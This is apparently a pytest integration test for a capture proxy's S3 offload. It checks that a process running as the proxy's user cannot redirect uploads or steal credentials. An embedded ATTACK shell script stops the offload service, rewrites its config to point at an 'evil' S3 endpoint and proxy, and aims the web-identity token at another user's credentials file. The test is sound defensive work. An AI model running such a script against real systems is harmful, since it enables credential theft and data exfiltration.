"""The offload knows what the container was started with, and nothing that the container's user would have it know later."""

import base64
import http.client
import secrets
from collections.abc import Iterator
from typing import Any

import pytest

from tests.integration.proxies import Proxy, RunProxy
from tests.integration.recording_server import LoopThread, RecordingServer
from tests.integration.rig import PATIENT, poll, status_of
from tests.integration.sts_behind_proxy import StsBehindProxy
from tests.s3_store import client, contents, moto_server

PROFILE = "[default]\naws_access_key_id = AKIAMOUNTEDMOUNTED00\naws_secret_access_key = OfTheMountedProfile\n"
TOKEN = "the-operators-token"


@pytest.fixture
def node() -> Iterator[RecordingServer]:
    with LoopThread() as thread, RecordingServer(thread) as server:
        yield server


def put(proxy: Proxy, path: str, text: str, owner: str = "root", mode: str = "644") -> None:
    """A file as a mount would bring it."""
    coded = base64.b64encode(text.encode()).decode()
    script = f"mkdir -p $(dirname {path}) && echo {coded} | base64 -d > {path} && chown {owner} {path} && chmod {mode} {path}"
    done = proxy.container.exec("sh", "-c", script, user="0")
    assert done.exit_code == 0, done.output


def send(proxy: Proxy) -> None:
    connection = http.client.HTTPConnection(*proxy.address, timeout=30)
    connection.request("GET", "/")
    assert connection.getresponse().status == 200
    connection.close()


# What somebody who has got code to run as the proxy's user would try: an offload of its own, which finds a file to upload, asks for
# credentials by way of the attacker's proxy, and shows a file as its token that this user can't read.
ATTACK = """
umask 002
mkdir -p /tmp/evil/log.offload /tmp/evil/offload
cp -r "$(dirname "$(find /run/capture /etc/cluster-traffic-capture -name offload.toml 2>/dev/null | head -n 1)")"/. /tmp/evil/
sed -i 's#^log_path = .*#log_path = "/tmp/evil/log"#; s#^directory = .*#directory = "/tmp/evil/log.offload"#' /tmp/evil/offload.toml
sed -i 's#^s3_url = .*#s3_url = "s3://evil/x"#; s#^s3_endpoint = .*#s3_endpoint = "{url}"#' /tmp/evil/offload.toml
echo '{{"startedDateTime":"2026-11-26T01:08:58.610284Z"}}' | zstd -q > /tmp/evil/log.000001.zst
s6-svc -d /run/capture/services/offload
until s6-svstat -o up /run/capture/services/offload | grep -q false; do sleep 0.1; done
export CAPTURE_CONFIG_DIR=/tmp/evil CAPTURE_RUNTIME_DIR=/tmp/evil AWS_CA_BUNDLE=/tmp/evil/authority.pem https_proxy={url} http_proxy={url}
export AWS_ROLE_ARN=arn:aws:iam::666666666666:role/evil AWS_WEB_IDENTITY_TOKEN_FILE=/home/offload/.aws/credentials
as-offload start && echo KEPT AGAIN
setsid as-offload offload > /tmp/evil/output 2>&1 &
"""


def uploaded(s3: Any, bucket: str) -> int:
    return len(contents(s3, bucket))


def test_what_the_operator_starts_it_with_works_and_nothing_else_is_listened_to(
    run_proxy: RunProxy, node: RecordingServer
) -> None:
    bucket = f"captures-{secrets.token_hex(4)}"
    with (
        moto_server(0, "0.0.0.0") as store,
        StsBehindProxy() as companys,
        StsBehindProxy() as attackers,
    ):
        s3 = client(store)
        s3.create_bucket(Bucket=bucket)
        proxy = run_proxy(
            "primary",
            [node.node],
            env={
                "CAPTURE_S3_URL": f"s3://{bucket}",
                "CAPTURE_S3_ENDPOINT": f"http://host.docker.internal:{store.rpartition(':')[2]}",
                "CAPTURE_S3_INTERVAL_S": "10",
                "CAPTURE_OFFLOAD_REGION": "eu-central-1",
                "https_proxy": companys.url,
                "AWS_CA_BUNDLE": "/etc/company.pem",
                "AWS_ROLE_ARN": "arn:aws:iam::123456789012:role/capture",
                "AWS_WEB_IDENTITY_TOKEN_FILE": "/mnt/token",
                **PATIENT,
            },
        )
        put(proxy, "/etc/company.pem", companys.authority)
        # Neither this nor the profile can be read by the proxy's user.
        put(proxy, "/mnt/token", TOKEN, "offload", "400")
        put(proxy, "/home/offload/.aws/credentials", PROFILE, "offload", "400")
        send(proxy)
        poll("the upload", lambda: uploaded(s3, bucket) > 0, 60, 0.3)
        assert companys.tokens
        assert set(companys.tokens) == {TOKEN}
        assert status_of(proxy)["offload"]["own_user"] is True
        asked = len(companys.tokens)

        proxy.container.exec("sh", "-c", "mkdir -p /tmp/evil")
        put(proxy, "/tmp/evil/authority.pem", attackers.authority)
        done = proxy.container.exec("sh", "-c", ATTACK.format(url=attackers.url))
        assert "KEPT AGAIN" not in done.output
        assert "File exists" in done.output
        send(proxy)
        poll("a word from it", lambda: attackers.connections or len(companys.tokens) > asked, 60, 0.3)
        assert attackers.connections == []
        # What the attacker started does the operator's work.
        poll("the next upload", lambda: uploaded(s3, bucket) > 1, 60, 0.3)
        assert attackers.connections == []
        assert set(companys.tokens) == {TOKEN}


def test_what_was_not_kept_at_the_start_is_not_made_up_for_later(
    run_proxy: RunProxy, node: RecordingServer
) -> None:
    # No offload at all: nobody can have one in the name of its user.
    proxy = run_proxy("primary", [node.node])
    done = proxy.container.exec(
        "sh", "-c", "CAPTURE_CONFIG_DIR=/tmp as-offload start; as-offload offload; ls -ld /dev/shm/offload"
    )
    assert "File exists" in done.output
    assert "can't read /dev/shm/offload/start." in done.output
    assert "drwx------ 3 offload capture" in done.output
    assert "can't be kept" not in proxy.logs()
